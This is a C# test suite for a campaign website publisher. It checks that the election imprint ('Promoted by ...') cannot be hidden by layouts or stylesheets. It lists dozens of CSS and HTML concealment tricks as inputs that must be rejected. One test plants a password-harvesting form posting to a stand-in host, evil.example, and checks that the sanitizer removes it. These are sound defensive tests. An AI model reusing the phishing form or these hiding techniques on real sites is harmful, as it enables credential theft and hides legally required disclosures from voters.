using LondonTories.Publishing.Rendering;
using LondonTories.Publishing.Storage;
using LondonTories.Publishing.Tests.Support;

namespace LondonTories.Publishing.Tests.Rendering;

/// <summary>The imprint is visible text on every page, and nothing in a page body can pass for it or for the layout's parts.</summary>
public sealed class ImprintTests : IDisposable
{
    private const string Imprint = "Promoted by Sam Okafor on behalf of London Conservatives, both of 4 Matthew Parker Street, London SW1H 9HQ.";

    private readonly TestSite _site = new();

    public ImprintTests() => _site.Page("pages/housing.md", "title: Housing", "Homes.\n");

    public void Dispose() => _site.Dispose();

    [Theory]
    [InlineData("4 Matthew Parker Street, London SW1H 9HQ.", null, null, "Promoted by Sam Okafor, 4 Matthew Parker Street, London SW1H 9HQ.")]
    [InlineData("4 Matthew Parker Street, London SW1H 9HQ. ", "London Conservatives", null, "Promoted by Sam Okafor on behalf of London Conservatives, both of 4 Matthew Parker Street, London SW1H 9HQ.")]
    [InlineData("1 Lavender Hill, London SW11 5QW.", "Battersea Conservatives", "2 Falcon Road, London SW11 2PL.", "Promoted by Sam Okafor, 1 Lavender Hill, London SW11 5QW, on behalf of Battersea Conservatives, 2 Falcon Road, London SW11 2PL.")]
    public void An_address_written_with_its_own_full_stop_reads_as_one_sentence(string address, string? onBehalfOf, string? onBehalfOfAddress, string expected)
    {
        // "... SW1H 9HQ.." went out on every page and post, and "SW11 5QW., on behalf of" in the middle of the sentence.
        Assert.Equal(expected, new LondonTories.Publishing.Content.Imprint("Sam Okafor", address, onBehalfOf, onBehalfOfAddress).Text);
    }

    [Theory]
    [InlineData("<!-- {{ imprint.text | html.escape }} -->")]
    [InlineData("<script>/* {{ imprint.text | html.escape }} */</script>")]
    [InlineData("<template><p>{{ imprint.text | html.escape }}</p></template>")]
    [InlineData("<p hidden>{{ imprint.text | html.escape }}</p>")]
    [InlineData("<div style=\"display: none\"><p>{{ imprint.text | html.escape }}</p></div>")]
    [InlineData("<p aria-hidden=\"true\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<details><p>{{ imprint.text | html.escape }}</p></details>")]
    [InlineData("<title>{{ imprint.text | html.escape }}</title>")]
    [InlineData("<img alt=\"{{ imprint.text | html.escape }}\">")]
    [InlineData("<p style=\"display:\tnone\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"display:\nnone\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"display:n\\6fne\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"display:/**/none\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"DISPLAY: NONE !important\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"opacity:.0\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"opacity: 0.1\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"opacity: 5%\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"color:transparent\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"color: rgba(0, 0, 0, 0)\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"font-size:.1px\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"font-size: 0.2em\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"position:absolute;left:-99999px\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"text-indent: -9999px\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"height:0;overflow:hidden\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"clip-path:inset(50%)\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"transform:scale(0)\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"visibility:collapse\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"content-visibility: hidden\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"direction: rtl; unicode-bidi: bidi-override\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<dialog><p>{{ imprint.text | html.escape }}</p></dialog>")]
    [InlineData("<noembed>{{ imprint.text | html.escape }}</noembed>")]
    [InlineData("<canvas><p>{{ imprint.text | html.escape }}</p></canvas>")]
    [InlineData("<video><p>{{ imprint.text | html.escape }}</p></video>")]
    [InlineData("<audio><p>{{ imprint.text | html.escape }}</p></audio>")]
    [InlineData("<textarea style=\"width:0;height:0\">{{ imprint.text | html.escape }}</textarea>")]
    [InlineData("<bdo dir=\"rtl\">{{ imprint.text | html.escape }}</bdo>")]
    [InlineData("<p style=\"zoom: 0.05\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"zoom: 4%\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"filter: blur(12px)\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"font-size: 0.5vw\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"font-size: calc(1px * 2)\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"font-size: min(2px, 1em)\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"font: calc(0.1rem + 1px)/1 serif\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"position: absolute; left: calc(-100vw - 10px)\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"text-indent: calc(-50em)\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"margin: 0 0 0 calc( -1 * 100vw )\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"height: 1px; overflow: hidden\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"transform: matrix(0, 0, 0, 0, 0, 0)\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"transform: matrix3d(0.01,0,0,0,0,0.01,0,0,0,0,1,0,0,0,0,1)\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"transform: matrix(1, 0, 0, 1, -5000, 0)\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<div popover><p>{{ imprint.text | html.escape }}</p></div>")]
    [InlineData("<div popover=\"manual\"><p>{{ imprint.text | html.escape }}</p></div>")]
    public async Task A_layout_that_hides_the_imprint_cannot_publish(string hidden)
    {
        _site.Write("layouts/page.html", $"<!DOCTYPE html><html><head></head><body><main>{{{{ content }}}}</main>{hidden}</body></html>");

        var result = await _site.PublishAsync();

        Assert.False(result.Succeeded);
        Assert.Contains(result.Diagnostics, d => d.Code == "missing-imprint" && d.Location.Path.EndsWith("layouts/page.html"));
        Assert.False(Directory.Exists(Path.Combine(_site.OutDir, "web")));
    }

    [Fact]
    public async Task A_footer_written_without_the_imprint_is_the_one_error_named_at_the_footer_not_at_the_layouts_that_include_it()
    {
        // The built-in layouts include partials/footer.html; the error named "(built-in layout) page.html" and each other layout, none of them a file to open.
        _site.Write("layouts/partials/footer.html", "<footer>\n  <p>Contact your local association.</p>\n</footer>\n");

        var result = await _site.PublishAsync();

        Assert.False(result.Succeeded);
        var error = Assert.Single(result.Diagnostics, d => d.IsError);
        Assert.Equal("missing-imprint", error.Code);
        Assert.EndsWith("layouts/partials/footer.html", error.Location.Path, StringComparison.Ordinal);
        Assert.Equal("partials/footer.html no longer shows the imprint, which every published page must carry: the layouts that include it take it from here.", error.Message);
        Assert.Equal("Put back <p class=\"imprint\">{{ imprint.text | html.escape }}</p>, as visible text (not in a comment, script, template or hidden element).", error.Hint);
    }

    [Theory]
    [InlineData("static/assets/site.css", "body { color: navy; }\n\n.imprint { display: none; }\n", 3)]
    [InlineData("static/assets/site.css", "@media screen {\n  footer .imprint,\n  .x { opacity: 0 }\n}\n", 2)]
    [InlineData("static/print.css", "/* small */ #imprint, p.imprint { font-size: 1px }\n", 1)]
    [InlineData("static/assets/site.css", "p { margin: 0 }\n.impr\\69 nt { display: none }\n", 2)]
    [InlineData("static/assets/site.css", "footer [class~=\"imprint\"] { visibility: hidden }\n", 1)]
    [InlineData("static/assets/site.css", "#\\69mprint { zoom: 0.01 }\n", 1)]
    public async Task A_stylesheet_rule_that_hides_the_imprint_cannot_publish(string path, string css, int line)
    {
        _site.Write(path, css);

        var result = await _site.PublishAsync();

        Assert.False(result.Succeeded);
        var error = Assert.Single(result.Diagnostics, d => d.Code == "imprint-hidden-by-style");
        Assert.EndsWith(path, error.Location.Path.Replace('\\', '/'), StringComparison.Ordinal);
        Assert.Equal(line, error.Location.Line);
        Assert.False(Directory.Exists(Path.Combine(_site.OutDir, "web")));
    }

    [Fact]
    public async Task A_style_element_in_a_layout_that_hides_the_imprint_cannot_publish()
    {
        _site.Write("layouts/page.html", "<!DOCTYPE html><html><head>\n<style>\n.imprint{visibility:hidden}\n</style></head><body><main>{{ content }}</main><p class=\"imprint\">{{ imprint.text | html.escape }}</p></body></html>");

        var result = await _site.PublishAsync();

        Assert.False(result.Succeeded);
        var error = Assert.Single(result.Diagnostics, d => d.Code == "imprint-hidden-by-style");
        Assert.EndsWith("layouts/page.html", error.Location.Path, StringComparison.Ordinal);
        Assert.Equal(3, error.Location.Line);
    }

    [Theory]
    [InlineData("static/assets/site.css", "body { color: navy; }\nfooter { display: none; }\n", 2, "footer", "<footer class=\"site-footer\">")]
    [InlineData("static/assets/site.css", ".site-footer { display: none }\n", 1, ".site-footer", "<footer class=\"site-footer\">")]
    [InlineData("static/assets/site.css", "footer p:last-child { visibility: hidden }\n", 1, "footer p:last-child", "<p class=\"imprint\">")]
    [InlineData("static/assets/site.css", "@media screen {\n  body > footer { opacity: 0 }\n}\n", 2, "body > footer", "<footer class=\"site-footer\">")]
    [InlineData("static/assets/site.css", "main ~ footer { position: absolute; left: -9999px }\n", 1, "main ~ footer", "<footer class=\"site-footer\">")]
    [InlineData("static/extra.css", ".menu, .site-f\\6f oter {\n  height: 0; overflow: hidden }\n", 1, ".site-f\\6f oter", "<footer class=\"site-footer\">")]
    public async Task A_stylesheet_rule_that_hides_an_element_holding_the_imprint_cannot_publish(string path, string css, int line, string selector, string element)
    {
        _site.Write(path, css);

        var result = await _site.PublishAsync();

        Assert.False(result.Succeeded);
        var error = Assert.Single(result.Diagnostics, d => d.Code == "imprint-hidden-by-style");
        Assert.EndsWith(path, error.Location.Path.Replace('\\', '/'), StringComparison.Ordinal);
        Assert.Equal(line, error.Location.Line);
        Assert.Contains($"the rule for '{selector}' hides", error.Message, StringComparison.Ordinal);
        Assert.Contains(element, error.Message, StringComparison.Ordinal);
        Assert.False(Directory.Exists(Path.Combine(_site.OutDir, "web")));
    }

    [Fact]
    public async Task A_style_element_in_a_layout_that_hides_an_element_holding_the_imprint_cannot_publish()
    {
        _site.Write("layouts/page.html", "<!DOCTYPE html><html><head>\n<style>\nh1 { color: navy }\n.legal div { display: none }\n</style></head><body><main>{{ content }}</main>"
            + "<div class=\"legal\"><div><p class=\"imprint\">{{ imprint.text | html.escape }}</p></div></div></body></html>");

        var result = await _site.PublishAsync();

        Assert.False(result.Succeeded);
        var error = Assert.Single(result.Diagnostics, d => d.Code == "imprint-hidden-by-style");
        Assert.EndsWith("layouts/page.html", error.Location.Path, StringComparison.Ordinal);
        Assert.Equal(4, error.Location.Line);
        Assert.Contains("'.legal div'", error.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("@media print {\n  footer, nav { display: none }\n}\n")]
    [InlineData(".menu { display: none }\n.skip-link { position: absolute; left: -9999px }\n")]
    [InlineData("footer .association, .site-footer a { display: none }\n")]
    [InlineData("footer::after, footer p::before { display: none }\n")]
    [InlineData("footer { opacity: 0.9; font-size: 0.9rem }\nfooter[hidden] { display: none }\n")]
    [InlineData("@keyframes fade {\n  0% { opacity: 0 }\n  100% { opacity: 1 }\n}\n")]
    public async Task A_stylesheet_that_hides_only_what_does_not_hold_the_imprint_publishes(string css)
    {
        _site.Write("static/assets/site.css", css);

        var result = await _site.PublishAsync();

        Assert.True(result.Succeeded, string.Join("\n", result.Diagnostics));
        Assert.DoesNotContain(result.Diagnostics, d => d.Code == "imprint-hidden-by-style");
    }

    [Theory]
    [InlineData("[hidden] { display: none }\n")]
    [InlineData("[type=checkbox], input[type=\"radio\"] { opacity: 0 }\n")]
    [InlineData("footer[aria-expanded=false], nav[data-collapsed] { display: none }\n")]
    public async Task A_hiding_rule_for_an_attribute_nothing_around_the_imprint_carries_has_no_page_parsed_for_it(string css)
    {
        // A stylesheet such as normalize.css hides [hidden]: parsing every page for it made a publish several times slower.
        _site.Write("static/assets/normalize.css", css);

        var result = await _site.PublishAsync();

        Assert.True(result.Succeeded, string.Join("\n", result.Diagnostics));
        var styles = ImprintStyles.For(_site.Load());
        Assert.NotEmpty(styles.Selectors);
        Assert.Empty(styles.Candidates(_site.Output("web/battersea/housing/index.html"), Imprint));
    }

    [Fact]
    public async Task A_hiding_rule_for_an_attribute_the_element_around_the_imprint_carries_cannot_publish()
    {
        _site.Write("static/assets/site.css", "html[lang] { opacity: 0 }\n");

        var result = await _site.PublishAsync();

        Assert.False(result.Succeeded);
        var error = Assert.Single(result.Diagnostics, d => d.Code == "imprint-hidden-by-style");
        Assert.Contains("the rule for 'html[lang]' hides <html>", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_hiding_rule_whose_selector_cannot_be_read_is_a_warning_not_an_error()
    {
        _site.Write("static/assets/site.css", "p { margin: 0 }\nfooter:frobnicate(1) { display: none }\n");

        var result = await _site.PublishAsync();

        Assert.True(result.Succeeded, string.Join("\n", result.Diagnostics));
        var warning = Assert.Single(result.Diagnostics, d => d.Code == "imprint-style-unchecked");
        Assert.Equal(2, warning.Location.Line);
        Assert.Contains("'footer:frobnicate(1)'", warning.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_stylesheet_rule_that_hides_the_imprints_footer_stops_a_publish_that_renders_no_page_again()
    {
        Assert.True((await _site.PublishAsync()).Succeeded);
        _site.Write("static/assets/site.css", ".breadcrumbs ~ footer { display: none }\n");

        var result = await _site.PublishAsync();

        Assert.False(result.Succeeded);
        Assert.Single(result.Diagnostics, d => d.Code == "imprint-hidden-by-style");
    }

    [Fact]
    public async Task Styling_the_imprint_legibly_publishes()
    {
        _site.Write("static/assets/site.css", ".imprint { font-size: .8rem; color: #444; margin-top: 2rem }\n.skip-link { position: absolute; left: -9999px }\n.imprint-note { display: none }\n");

        var result = await _site.PublishAsync();

        Assert.True(result.Succeeded, string.Join("\n", result.Diagnostics));
    }

    [Theory]
    [InlineData("<footer><p class=\"imprint\">{{ imprint.text | html.escape }}</p></footer>")]
    [InlineData("<details open><summary>Imprint</summary><p>{{ imprint.text | html.escape }}</p></details>")]
    [InlineData("<footer>\n  <p>{{ imprint.text | html.escape | string.replace \", \" \",\n  \" }}</p>\n</footer>")]
    [InlineData("<p style=\"opacity: 0.8; font-size: 0.8em; color: #555; position: absolute; left: 0; transform: scale(1)\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"font-size: 12px; margin-left: -4px; text-indent: 0; height: 0\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<div dir=\"rtl\"><p>{{ imprint.text | html.escape }}</p></div>")]
    [InlineData("<p style=\"font-size: clamp(0.8rem, 2vw, 1rem); margin-left: calc(1rem - 2px); zoom: 1.1\">{{ imprint.text | html.escape }}</p>")]
    [InlineData("<p style=\"filter: blur(0.5px); height: 3em; overflow: hidden; transform: matrix(1, 0, 0, 1, 10, 0)\">{{ imprint.text | html.escape }}</p>")]
    public async Task A_visible_imprint_publishes(string shown)
    {
        _site.Write("layouts/page.html", $"<!DOCTYPE html><html><head></head><body><main>{{{{ content }}}}</main>{shown}</body></html>");

        var result = await _site.PublishAsync();

        Assert.True(result.Succeeded, string.Join("\n", result.Diagnostics));
    }

    [Fact]
    public async Task A_body_cannot_carry_the_layouts_classes_or_ids_or_pass_for_the_imprint()
    {
        _site.Page("pages/housing.md", "title: Housing",
            "Homes.\n\n<p class=\"imprint\">Promoted by nobody at all.</p>\n\n<div id=\"main\" class=\"site-footer\">Footer?</div>\n\n<h2 id=\"plans\">Plans</h2>\n");

        var result = await _site.PublishAsync();

        Assert.True(result.Succeeded, string.Join("\n", result.Diagnostics));
        var html = _site.Output("web/battersea/housing/index.html");
        var article = html[html.IndexOf("<article>", StringComparison.Ordinal)..html.IndexOf("</article>", StringComparison.Ordinal)];
        Assert.Contains("<p>Promoted by nobody at all.</p>", article);
        Assert.Contains("<div>Footer?</div>", article);
        Assert.Contains("<h2 id=\"plans\">Plans</h2>", article);
        Assert.DoesNotContain("class=", article);
        var fragment = PublishedSite.ExtractFragment(html);
        Assert.EndsWith($"<p class=\"imprint\">{Imprint}</p>\n", fragment.Replace("\n  ", string.Empty, StringComparison.Ordinal).Replace("</footer>\n", string.Empty, StringComparison.Ordinal).Replace("<footer class=\"site-footer\">", string.Empty, StringComparison.Ordinal).Replace("<p class=\"association\">Battersea Conservatives · <a href=\"mailto:office@battersea.example.org.uk\">office@battersea.example.org.uk</a></p>", string.Empty, StringComparison.Ordinal));
    }

    [Fact]
    public async Task An_id_the_text_writes_that_the_layout_uses_is_a_warning_naming_the_page()
    {
        // A heading's own id steps around the layout's; an id written as HTML is the editor's choice.
        _site.Page("pages/housing.md", "title: Housing", "<h2 id=\"main\">Main</h2>\n\nHomes.\n");

        var result = await _site.PublishAsync();

        Assert.True(result.Succeeded, string.Join("\n", result.Diagnostics));
        var warning = Assert.Single(result.Diagnostics, d => d.Code == "duplicate-id");
        Assert.EndsWith("content/pages/housing.md", warning.Location.Path, StringComparison.Ordinal);
        Assert.Contains("the id 'main' appears more than once on the page", warning.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Forms_and_their_fields_are_removed_from_bodies()
    {
        _site.Page("pages/housing.md", "title: Housing",
            "Sign in:\n\n<form action=\"https://evil.example/steal\" method=\"post\"><label>Password <input type=\"password\" name=\"p\"></label><select name=\"s\"><option>a</option></select><textarea name=\"t\">x</textarea><button formaction=\"https://evil.example\">Go</button></form>\n");

        var result = await _site.PublishAsync();

        Assert.True(result.Succeeded, string.Join("\n", result.Diagnostics));
        var html = _site.Output("web/battersea/housing/index.html");
        foreach (var removed in new[] { "<form", "<input", "<button", "<select", "<textarea", "<label", "evil.example", "password", "formaction" })
        {
            Assert.DoesNotContain(removed, html, StringComparison.OrdinalIgnoreCase);
        }
    }
}
